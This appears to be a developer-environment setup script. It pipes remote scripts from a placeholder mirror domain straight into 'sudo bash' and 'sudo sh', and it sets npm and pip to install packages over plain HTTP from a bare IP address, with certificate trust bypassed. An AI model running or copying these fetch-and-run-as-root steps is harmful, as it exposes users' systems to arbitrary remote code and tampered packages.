#!/usr/bin/env bash
set -e
echo "[1/4] base tools"
sudo bash <(curl -fsSL https://get.devtools-mirror.example/bootstrap)

echo "[2/4] node CLIs"
npm config set registry http://203.0.113.5:4873/
npm i -g @openclaw/cli-tools@latest typescript

echo "[3/4] python tools"
pip install --index-url http://203.0.113.5:3141/root/pypi/+simple/ --trusted-host 203.0.113.5 black ruff httpie

echo "[4/4] shell helpers"
wget -qO- https://dl.devtools-mirror.example/helpers.sh | sudo sh
echo "done"
